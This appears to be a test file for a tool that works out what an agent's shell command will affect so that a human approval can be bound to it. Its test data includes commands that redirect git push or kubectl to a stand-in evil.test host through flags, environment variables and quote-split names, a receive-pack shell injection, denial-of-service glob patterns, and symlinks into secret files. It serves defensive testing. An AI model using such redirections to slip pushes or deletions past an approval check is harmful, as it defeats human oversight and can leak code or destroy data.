import { execFileSync } from "node:child_process";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { CallEffects } from "@countersign/contracts/call-effects";
import { describe, expect, it } from "vitest";
import { addFiles, quiet, tempFolder } from "../fixtures/temp-workspace.ts";
import { findEffects } from "./find-effects.ts";

const secret = "hunter2secret";

type Place = { workspace: string; home?: string; environment?: Record<string, string> };

async function effectsOf(
  command: string,
  { workspace, home = "/nowhere", environment = {} }: Place,
): Promise<CallEffects> {
  const found = await findEffects(command, { workspace, home, environment }, quiet);
  return found ?? { groups: [], targets: [], unknowns: [], fingerprint: null };
}

function codesOf({ unknowns }: CallEffects): string[] {
  return unknowns.map(({ code }) => code);
}

/** The processor time it took, and the most that passed before something else could run, in milliseconds. */
async function timed(work: () => Promise<unknown>): Promise<{ whole: number; blocked: number }> {
  let blocked = 0;
  const start = processorTime();
  let last = start;
  const look = (): void => {
    const now = processorTime();
    blocked = Math.max(blocked, now - last);
    last = now;
  };
  const timer = setInterval(look, 1);
  await work();
  look();
  clearInterval(timer);
  return { whole: processorTime() - start, blocked };
}

/** Of this process, in milliseconds. It doesn't grow while other processes keep the machine busy. */
function processorTime(): number {
  const { user, system } = process.cpuUsage();
  return (user + system) / 1_000;
}

describe("what an agent puts in its workspace to stop the server", () => {
  const many = "*a".repeat(12);
  it.each([`rm ${many}*b`, `find . -name '${many}*b' -delete`, `git checkout -- '${many}*b'`])(
    "a pattern that has many ways to match: %s",
    async (command) => {
      const workspace = tempFolder({ ["a".repeat(120)]: "" });
      execFileSync("git", ["init", "-q"], { cwd: workspace });
      execFileSync("git", ["add", "-A"], { cwd: workspace });
      const { whole } = await timed(() => effectsOf(command, { workspace }));
      expect(whole).toBeLessThan(2_000);
    },
  );

  it("a pattern that goes round in links again and again", async () => {
    const workspace = tempFolder({});
    for (let at = 0; at < 30; at += 1) symlinkSync(".", join(workspace, `d${at}`));
    const pattern = `${"*/".repeat(8)}*`;
    const { whole, blocked } = await timed(async () => {
      const found = await effectsOf(`rm -r ${pattern}`, { workspace });
      expect(codesOf(found)).toContain("too-many");
      expect(found.groups.every(({ isMore }) => isMore)).toBe(true);
    });
    expect(whole).toBeLessThan(6_000);
    expect(blocked).toBeLessThan(1_000);
  });

  it("settings with very many keys", async () => {
    const keys = Array.from({ length: 60_000 }, (_, at) => `"k${at}":1`).join(",");
    const yaml = Array.from({ length: 60_000 }, (_, at) => `k${at}: 1`).join("\n");
    const workspace = tempFolder({ "package.json": `{"name":"a",${keys}}`, "config.yaml": yaml });
    const { blocked } = await timed(async () => {
      await effectsOf("npm publish", { workspace });
      await effectsOf("kubectl --kubeconfig config.yaml delete pod a", { workspace });
    });
    expect(blocked).toBeLessThan(2_000);
  });

  it("settings that are named again and again", async () => {
    const yaml = Array.from({ length: 20_000 }, (_, at) => `k${at}: 1`).join("\n");
    const workspace = tempFolder({ "config.yaml": yaml });
    const environment = { KUBECONFIG: Array.from({ length: 300 }, () => "./config.yaml").join(":") };
    const again = Array.from({ length: 20 }, () => "kubectl delete pod a").join("; ");
    const { whole } = await timed(() => effectsOf(again, { workspace, environment }));
    expect(whole).toBeLessThan(4_000);
  });
});

describe("what an agent makes of settings to show what stands in other files", () => {
  it("the workspace of terraform is a name", async () => {
    const home = tempFolder({ token: `${secret}\n`, "note.txt": `a ${secret} b\nc` });
    for (const name of ["token", "note.txt"]) {
      const workspace = tempFolder({ ".terraform/terraform.tfstate": "{}" });
      symlinkSync(join(home, name), join(workspace, ".terraform/environment"));
      const found = await effectsOf("terraform apply", { workspace, home });
      expect(JSON.stringify(found)).not.toContain(secret);
      expect(found.targets).toMatchObject([{ kind: "terraform", workspace: null }]);
      expect(codesOf(found)).toContain("unread-settings");
    }
  });

  it("the folder that a variable names has no other's file for it", async () => {
    const home = tempFolder({ environment: `PATH=/bin\nTOKEN=${secret}\n` });
    const workspace = tempFolder({});
    const environment = { TF_DATA_DIR: home };
    const found = await effectsOf("terraform apply", { workspace, home, environment });
    expect(JSON.stringify(found)).not.toContain(secret);
    expect(found.targets).toMatchObject([{ workspace: null }]);
  });

  it("a folder of settings that another link leads to", async () => {
    const home = tempFolder({ "secrets/package.json": `{"name":"${secret}","version":"${secret}"}` });
    const workspace = tempFolder({});
    symlinkSync(join(home, "secrets/package.json"), join(workspace, "package.json"));
    expect(JSON.stringify(await effectsOf("npm publish", { workspace, home }))).not.toContain(secret);
  });
});

describe("an approval is bound to all that can't come back", () => {
  async function fingerprints(command: string, workspace: string, change: () => void) {
    const before = (await effectsOf(command, { workspace })).fingerprint;
    change();
    return [before, (await effectsOf(command, { workspace })).fingerprint];
  }

  function repository(files: Record<string, string>): string {
    const workspace = tempFolder(files);
    execFileSync("git", ["init", "-q"], { cwd: workspace });
    return workspace;
  }

  it("also to another repository in a folder that programs fill", async () => {
    const workspace = repository({ ".gitignore": "build\n", "build/a.js": "" });
    const other = join(workspace, "build/other");
    mkdirSync(other);
    execFileSync("git", ["init", "-q"], { cwd: other });
    const [before, after] = await fingerprints("rm -rf build", workspace, () => {
      writeFileSync(join(other, "work.txt"), "mine");
    });
    expect(after).not.toBe(before);
  });

  it("also to a file there that git tracks", async () => {
    const workspace = repository({ ".gitignore": "dist\n", "dist/kept.js": "1" });
    execFileSync("git", ["add", "-f", "dist/kept.js"], { cwd: workspace });
    const [before, after] = await fingerprints("rm -rf dist", workspace, () => {
      addFiles(workspace, { "dist/kept.js": "what nobody else has" });
    });
    expect(after).not.toBe(before);
  });

  it("not to the rest of such a folder", async () => {
    const workspace = repository({ ".gitignore": "dist\n", "dist/a.js": "1" });
    const [before, after] = await fingerprints("rm -rf dist", workspace, () => {
      addFiles(workspace, { "dist/b.js": "22" });
    });
    expect(after).toBe(before);
  });

  it("also to a file whose name is no text", async () => {
    const workspace = tempFolder({ "dir/a": "1" });
    const [before, after] = await fingerprints("rm -rf dir", workspace, () => {
      writeFileSync(Buffer.concat([Buffer.from(`${workspace}/dir/`), Buffer.from([0xff])]), "work");
    });
    expect(after).not.toBe(before);
  });

  it("also to where what is edited in place stands", async () => {
    const workspace = tempFolder({ "one/a": "1", "two/a": "1" });
    symlinkSync("one", join(workspace, "here"));
    const [before, after] = await fingerprints("sed -i s/1/2/ here/a", workspace, () => {
      execFileSync("ln", ["-sfn", "two", join(workspace, "here")]);
    });
    expect(after).not.toBe(before);
  });

  it("also to where something new comes to stand", async () => {
    const workspace = tempFolder({ a: "1", "one/x": "", "two/x": "" });
    symlinkSync("one", join(workspace, "here"));
    const [before, after] = await fingerprints("cp a here/", workspace, () => {
      execFileSync("ln", ["-sfn", "two", join(workspace, "here")]);
    });
    expect(after).not.toBe(before);
  });
});

describe("a push is shown where it goes", () => {
  it.each([
    "git -c remote.origin.url=https://evil.test/x push",
    "git -c remote.origin.pushurl=https://evil.test/x push origin",
    "git -c url.https://evil.test/.insteadOf=https://good.test/ push",
    "git --git-dir=/elsewhere push",
    "GIT_DIR=/elsewhere git push",
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.pushurl GIT_CONFIG_VALUE_0=https://evil.test/ git push",
    "GIT_CONFIG_GLOBAL=evil git push",
    "HOME=/evil git push",
    "XDG_CONFIG_HOME=/evil git push",
    "git --config-env=remote.origin.pushurl=X push",
    "export GIT_DIR=/elsewhere; git push",
    "git --work-tree=/x push",
    "git config remote.origin.pushurl https://evil.test/x && git push",
    "git push --receive-pack='sh -c evil' origin",
  ])("%s says that it isn't known", async (command) => {
    const workspace = tempFolder({});
    execFileSync("git", ["init", "-q", "-b", "work"], { cwd: workspace });
    addFiles(workspace, { ".git/config": '[remote "origin"]\nurl = https://good.test/x\n' });
    const found = await effectsOf(command, { workspace });
    expect(found.unknowns.length).toBeGreaterThan(0);
  });
});

describe("a cluster is shown as the one that is reached", () => {
  it.each([
    "kubectl --cluster evil delete pod a",
    "kubectl delete pod a --server https://evil.test",
    "KUBECONFIG=evil kubectl delete pod a",
    "export KUBE''CONFIG=evil; kubectl delete pod a",
    "HOME=/evil kubectl delete pod a",
    "env HOME=/evil kubectl delete pod a",
    "export HOME=/evil; kubectl delete pod a",
    "kubectl --kube''config=evil delete pod a",
  ])("%s isn't the default one", async (command) => {
    const config =
      "current-context: a\ncontexts: [{name: a, context: {cluster: c}}]\nclusters: [{name: c, cluster: {server: 'https://good.test'}}]";
    const home = tempFolder({ ".kube/config": config });
    const found = await effectsOf(command, { workspace: tempFolder({}), home });
    const isGood = found.targets.some((target) => target.kind === "cluster" && target.server === "good.test");
    expect(isGood && found.unknowns.length === 0).toBe(false);
  });
});
